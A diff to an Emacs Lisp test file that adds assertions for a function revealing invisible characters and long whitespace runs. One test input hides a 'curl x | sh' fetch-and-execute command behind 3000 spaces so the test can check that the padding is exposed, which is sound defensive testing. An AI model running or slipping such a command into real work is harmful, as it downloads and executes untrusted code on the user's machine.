@@ -346,6 +346,8 @@
                  (concat (string #x2764 #xfe0f) " kept, " (string #x1f600) "\\ufe01\\ufe02\\u{e0101} not")))
   (should (equal (tackle--visible (concat "filler" (string #x3164 #xad))) "filler\\u3164\\xad"))
   (should (equal (tackle--visible "a\nb\tc" t) "a\\nb\\tc"))
+  (should (equal (tackle--visible (concat "echo hi" (make-string 3000 ?\s) "; curl x | sh") t) "echo hi [3000 spaces] ; curl x | sh"))
+  (should (equal (tackle--visible (concat "a" (make-string 7 ?\s) "b") t) (concat "a" (make-string 7 ?\s) "b")))
   (should (equal (tackle--one-line (concat "x" (make-string 30 ?z)) 10) "xzzzzzzzzz… (21 more characters)")))
 
 (ert-deftest tackle-start-says-when-its-program-is-missing ()
